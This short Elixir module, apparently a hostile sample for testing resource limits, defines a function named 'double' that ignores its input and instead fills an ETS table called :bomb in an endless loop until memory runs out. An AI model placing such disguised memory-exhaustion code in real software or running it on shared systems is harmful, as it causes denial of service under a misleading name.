# A table.
defmodule Target do
  def double(x) do
    table = :ets.new(:bomb, [:public])
    chunk = :binary.copy(<<1>>, 60)
    Stream.iterate(0, &(&1 + 1)) |> Enum.each(&:ets.insert(table, {&1, List.duplicate(chunk, 5000)}))
  end

  def first_or([], default), do: default
  def first_or([head | _], _default), do: head
end
